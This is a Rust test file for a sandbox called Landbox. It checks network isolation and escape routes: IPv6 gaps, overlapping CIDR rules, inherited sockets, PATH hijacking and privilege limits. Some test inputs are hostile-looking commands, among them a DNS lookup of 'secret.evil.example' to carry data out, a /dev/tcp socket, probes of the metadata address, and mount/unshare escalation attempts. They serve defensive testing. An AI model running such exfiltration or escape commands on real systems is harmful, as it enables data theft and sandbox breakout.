//! Faults that people reported of other systems' networks, each in the smallest form that could happen to Landbox. What
//! the other modules hold already is not repeated.

use landbox_tests::net::{Answer, Flow, Outer, PORT, address, closed, open, policy};
use landbox_tests::{Place, World, procs, world, worlds};
use serde_json::{Value, json};
use std::fs;
use std::os::fd::OwnedFd;
use std::os::unix::fs::PermissionsExt;

fn reached(answers: &[Answer]) -> Vec<bool> {
    answers.iter().map(Answer::reached).collect()
}

fn allowlist(cidrs: &[&str]) -> Value {
    let rules: Vec<Value> = cidrs.iter().map(|cidr| json!({"cidr": cidr})).collect();
    json!({"mode": "allowlist", "rules": rules})
}

fn program(place: &Place, path: &std::path::Path, text: &str) {
    place.write(path, text);
    fs::set_permissions(path, PermissionsExt::from_mode(0o755)).unwrap();
}

worlds! {
    // Rules were written for IPv4 alone, and IPv6 was wide open.
    [user_kernel, root_kernel]
    fn rules_for_one_family_leave_the_other_closed(world) {
        let outer = Outer::new();
        let mut listeners = outer.listen(&[PORT]);
        let place = Place::new(world);
        let rules = policy(json!({"mode": "block"}), allowlist(&["192.0.2.10/32"]));
        let flows = [
            Flow::tcp("192.0.2.10", PORT),
            Flow::tcp("2001:db8::1", PORT),
            Flow::tcp("2606:4700:4700::1111", PORT),
            Flow::tcp("169.254.169.254", PORT).mapped(),
            Flow::tcp("169.254.169.254", PORT),
            Flow::udp("2606:4700:4700::1111", PORT),
        ];
        let answers = outer.probe(&place, &rules, &flows);
        assert_eq!(reached(&answers), [true, false, false, false, false, false], "{answers:?}");
        assert_eq!(listeners.counts().len(), 1);
    }

    // A name can carry data out of a session that is told to have no network.
    [user_kernel, root_kernel]
    fn no_look_up_leaves_a_session_without_a_network(world) {
        let outer = Outer::new();
        let mut listeners = outer.listen(&[53]);
        let place = Place::new(world);
        let script = "timeout 20 getent hosts secret.evil.example; \
                      ls /run/systemd/resolve/io.systemd.Resolve /run/dbus/system_bus_socket \
                         /var/run/nscd/socket 2>/dev/null; true";
        let mut run = place.session(["--network", "off"], ["sh", "-c", script]);
        let out = run.within(&outer).output().ok();
        assert_eq!(out.text(), "");
        assert!(listeners.counts().is_empty());
    }

    // Overlapping and repeated ranges made the whole rule set fail to load, or one entry hid another.
    [user_kernel, root_kernel]
    fn ranges_that_overlap_or_repeat_load_and_are_a_union(world) {
        let outer = Outer::new();
        let _listeners = outer.listen(&[PORT, 443]);
        let place = Place::new(world);
        let rules = json!([
            {"cidr": "10.1.2.3/32", "protocol": "tcp", "ports": [PORT]},
            {"cidr": "fd12::5/128"},
            {"cidr": "10.128.0.0/9", "protocol": "tcp", "ports": [443]},
            {"cidr": "10.128.0.0/9", "protocol": "tcp", "ports": [443]},
            {"cidr": "10.200.0.0/16", "protocol": "tcp", "ports": [PORT, 443]},
            {"cidr": "10.200.7.0/24"},
            {"cidr": "10.200.7.9/32", "protocol": "udp"},
        ]);
        let rules = policy(json!({"mode": "block"}), json!({"mode": "allowlist", "rules": rules}));
        let tried = [
            (Flow::tcp("10.1.2.3", PORT), true),
            (Flow::tcp("10.1.2.3", 443), false),
            (Flow::tcp("10.1.2.4", PORT), false),
            (Flow::tcp("fd12::5", 443), true),
            (Flow::udp("fd12::5", PORT), true),
            (Flow::tcp("fd12::6", 443), false),
            (Flow::tcp("fc00::1", 443), false),
            (Flow::tcp("10.129.0.1", 443), true),
            (Flow::tcp("10.129.0.1", PORT), false),
            (Flow::tcp("10.200.0.1", PORT), true),
            (Flow::udp("10.200.0.1", PORT), false),
            (Flow::udp("10.200.7.1", PORT), true),
            (Flow::udp("10.200.7.9", 443), true),
            (Flow::tcp("100.64.0.1", 443), false),
            (Flow::tcp("169.254.169.254", PORT), false),
            (Flow::tcp("127.0.0.1", PORT), true),
        ];
        let flows = tried.map(|(flow, _)| flow);
        let answers = outer.probe(&place, &rules, &flows);
        assert_eq!(reached(&answers), tried.map(|(_, works)| works), "{answers:?}");
    }

    // A block of the ranges above an allowed address beat the address, or the reverse.
    [user_kernel]
    fn a_denied_range_inside_an_allowed_zone_is_denied_whole(world) {
        let outer = Outer::new();
        let _listeners = outer.listen(&[PORT]);
        let place = Place::new(world);
        let rules = json!([{"cidr": "10.0.0.0/8"}, {"cidr": "10.0.0.0/9"}, {"cidr": "127.0.0.0/8"},
                           {"cidr": "203.0.113.0/24"}]);
        let rules = policy(json!({"mode": "block"}), json!({"mode": "denylist", "rules": rules}));
        let tried = [
            (Flow::tcp("10.9.9.9", PORT), false),
            (Flow::tcp("10.200.0.1", PORT), false),
            (Flow::tcp("203.0.113.9", PORT), false),
            (Flow::tcp("192.168.1.1", PORT), true),
            (Flow::tcp("fd12::5", PORT), true),
            // Zones mean other machines: the session's own loopback is its own.
            (Flow::tcp("127.0.0.1", PORT), true),
        ];
        let answers = outer.probe(&place, &rules, &tried.map(|(flow, _)| flow));
        assert_eq!(reached(&answers), tried.map(|(_, works)| works), "{answers:?}");
    }

    // Work queued on a ring is seen by no filter; programs that like rings must find another way.
    [user_kernel]
    fn node_reads_files_without_a_ring(world) {
        let outer = Outer::new();
        let place = Place::new(world);
        let script = "require('fs').readFile('/etc/hostname', (e) => console.log(e ? e.code : 'ok'))";
        let out = outer.session(&place, &closed(), ["node", "-e", script]).output().ok();
        assert_eq!(out.text(), "ok\n");
    }

    // A socket that was open before is a way out that no rule sees.
    [user_kernel, root_kernel]
    fn a_socket_that_the_caller_left_open_is_not_in_the_session(world) {
        let outer = Outer::new();
        let _listeners = outer.listen(&[PORT]);
        let place = Place::new(world);
        let script = "for fd in /proc/self/fd/*; do readlink $fd; done; \
                      echo out >&7 2>/dev/null && echo LEAKED; true";
        let mut run = outer.session(&place, &closed(), ["bash", "-c", script]);
        let open = format!("exec 7<>/dev/tcp/{}/{PORT}", address::PUBLIC_V4);
        let out = run.prefix(&open).output().ok();
        assert!(!out.text().contains("socket:") && !out.text().contains("LEAKED"), "{}", out.text());
    }

    [user_kernel]
    fn a_socket_as_standard_input_is_copied_and_not_handed_on(world) {
        let outer = Outer::new();
        let place = Place::new(world);
        let (ours, theirs) = std::os::unix::net::UnixStream::pair().unwrap();
        drop(ours);
        let mut run = outer.session(&place, &closed(), ["readlink", "/proc/self/fd/0"]);
        run.stdin_file(fs::File::from(OwnedFd::from(theirs)));
        let out = run.output().ok();
        assert!(out.text().starts_with("pipe:"), "{}", out.text());
    }

    // The sandbox's own programs lay in a folder that the owner hid, and locking down broke setting up.
    [user_kernel, root_kernel]
    fn hiding_the_folder_of_the_programs_themselves_does_not_break_the_start(world) {
        let outer = Outer::new();
        let _listeners = outer.listen(&[PORT]);
        let place = Place::new(world);
        let file = place.policy(&open());
        let script = format!(
            "import socket
a, b = socket.socketpair(); a.send(b'1'); print(b.recv(1))
try: socket.socket(socket.AF_UNIX)
except PermissionError: print('refused when it is made')
print(socket.create_connection(('{}', {PORT}), 20).recv(5))",
            address::PUBLIC_V4
        );
        let hidden = world::bin("landbox");
        let options = [
            "--hide".as_ref(),
            hidden.parent().unwrap().as_os_str(),
            "--network".as_ref(),
            file.as_os_str(),
        ];
        let out = place.session(options, ["python3", "-c", &script]).within(&outer).output().ok();
        assert_eq!(out.text(), "b'1'\nrefused when it is made\nb'outer'\n");
    }

    // What sets privileges up must not be there for the task to use.
    [user_kernel, root_kernel]
    fn no_new_privileges_are_there_to_be_had(world) {
        let outer = Outer::new();
        let place = Place::new(world);
        let script = "grep -E '^(NoNewPrivs|Seccomp|CapEff|CapBnd|CapPrm):' /proc/self/status; \
                      mount -t tmpfs t /mnt 2>/dev/null && echo MOUNTED; \
                      unshare -Ur true 2>/dev/null && echo NESTED; true";
        let out = outer.session(&place, &open(), ["sh", "-c", script]).output().ok();
        let text = out.text().replace('\t', " ");
        let zero = "0000000000000000";
        let wanted =
            format!("CapPrm: {zero}\nCapEff: {zero}\nCapBnd: {zero}\nNoNewPrivs: 1\nSeccomp: 2\n");
        assert_eq!(text, wanted);
    }

    // Programs on the search path took the place of the ones that were meant.
    [user_kernel, root_kernel]
    fn programs_on_the_search_path_have_no_part_in_the_boundary(world) {
        let outer = Outer::new();
        let _listeners = outer.listen(&[PORT]);
        let place = Place::new(world);
        let folder = place.home.join("bin");
        let mark = place.outside.join("mark");
        for name in ["nft", "ip", "slirp4netns", "unshare", "bwrap", "ip6tables"] {
            let text = format!("#!/bin/sh\necho {name} >> {}\nexit 0\n", mark.display());
            program(&place, &folder.join(name), &text);
        }
        let flows = [Flow::tcp(address::PUBLIC_V4, PORT), Flow::tcp(address::PRIVATE_V4, PORT)];
        let rules = policy(json!({"mode": "allow"}), json!({"mode": "block"}));
        for path in [folder.display().to_string(), place.outside.display().to_string()] {
            let answers = outer.probe_with(&place, &rules, &flows, |run| {
                run.env("PATH", &path);
            });
            assert_eq!(reached(&answers), [true, false], "{answers:?}");
        }
        assert!(!mark.exists(), "{:?}", fs::read_to_string(&mark));
    }

    // The link could not enter the namespaces where one more user namespace lay around.
    [user_kernel]
    fn a_session_started_inside_another_user_namespace_has_its_link(world) {
        let outer = Outer::new();
        let _listeners = outer.listen(&[PORT]);
        let place = Place::new(world);
        let flows = [Flow::tcp(address::PUBLIC_V4, PORT), Flow::tcp(address::PUBLIC_V6, PORT)];
        let answers = outer.probe_with(&place, &open(), &flows, |run| {
            run.prefix("exec unshare --user --map-current-user -- \"$0\" \"$@\"");
        });
        assert_eq!(reached(&answers), [true, true], "{answers:?}");
    }

    [user_kernel]
    fn twenty_sessions_at_once_all_have_their_link(world) {
        let outer = Outer::new();
        let _listeners = outer.listen(&[PORT]);
        let place = Place::new(world);
        let list = place.flows(&[Flow::tcp(address::PUBLIC_V4, PORT), Flow::tcp(address::PUBLIC_V6, PORT)]);
        let prober = world::bin("prober");
        let file = place.policy(&open());
        let start = |_| {
            let words = [prober.as_os_str(), "net".as_ref(), list.as_os_str()];
            let options = ["--network".as_ref(), file.as_os_str()];
            place.session(options, words).within(&outer).limit(120).start()
        };
        let live: Vec<_> = (0..20).map(start).collect();
        for one in live {
            let answers: Vec<Answer> = one.wait().ok().json();
            assert_eq!(reached(&answers), [true, true], "{answers:?}");
        }
    }

    // What the session left behind for the next one: nothing.
    [user_kernel]
    fn a_resumed_session_keeps_the_policy_it_was_made_with(world) {
        let outer = Outer::new();
        let _listeners = outer.listen(&[PORT]);
        let place = Place::new(world);
        let flows = [Flow::tcp(address::PUBLIC_V4, PORT), Flow::tcp(address::PRIVATE_V4, PORT)];
        let list = place.flows(&flows);
        let rules = policy(json!({"mode": "allow"}), json!({"mode": "block"}));
        outer.probe(&place, &rules, &flows);
        // The file says something else now, and so does the list of bots.
        place.policy(&open());
        place.write(
            place.home.join(".config/landbox/bots.json"),
            json!([{"name": "b", "sandboxNetworkPolicy": open()}]).to_string(),
        );
        let prober = world::bin("prober");
        let session = place.json(["show"]);
        let mut run = place.landbox(["resume", session["id"].as_str().unwrap(), "--"]);
        run.args([prober.as_os_str(), "net".as_ref(), list.as_os_str()]);
        let answers: Vec<Answer> = run.within(&outer).output().ok().json();
        assert_eq!(reached(&answers), [true, false], "{answers:?}");
    }

    [user_kernel]
    fn a_bots_policy_wins_over_its_switch(world) {
        let outer = Outer::new();
        let _listeners = outer.listen(&[PORT]);
        let place = Place::new(world);
        let rules = policy(json!({"mode": "allow"}), json!({"mode": "block"}));
        for switch in [true, false] {
            place.write(
                place.home.join(".config/landbox/bots.json"),
                json!([{"name": "b", "sandboxNetwork": switch, "sandboxNetworkPolicy": rules}])
                    .to_string(),
            );
            let list = place.flows(&[
                Flow::tcp(address::PUBLIC_V4, PORT),
                Flow::tcp(address::PRIVATE_V4, PORT),
            ]);
            let prober = world::bin("prober");
            let words = [prober.as_os_str(), "net".as_ref(), list.as_os_str()];
            let mut run = place.session(["--bot", "b"], words);
            let answers: Vec<Answer> = run.within(&outer).output().ok().json();
            assert_eq!(reached(&answers), [true, false], "{answers:?}");
        }
    }
}

// The device lay in a folder that others can't enter.
#[test]
fn root_closes_the_folder_of_the_tunnel_device_and_it_is_named() {
    let place = Place::new(World::USUAL);
    let outer = Outer::new();
    let mut run = outer.session(&place, &open(), ["echo", "RAN"]);
    let script = "mount -t tmpfs none /dev/net; mknod /dev/net/tun c 10 200; chmod 0666 /dev/net/tun; \
                  chmod 0700 /dev/net";
    let out = run.within_changed(&outer, script).output().expect(125);
    assert_eq!(out.text(), "");
    assert!(out.errors().contains("/dev/net"), "{}", out.errors());
    assert!(procs::mounts_below(place.root()).is_empty());
}

#[test]
fn root_takes_the_tunnel_device_away_and_doctor_names_it() {
    let place = Place::new(World::USUAL);
    let outer = Outer::new();
    let mut run = place.landbox(["doctor"]);
    let out = run.within_changed(&outer, "mount -t tmpfs none /dev/net").output();
    let said = out.text() + &out.errors();
    assert!(said.contains("/dev/net/tun"), "{said}");
}
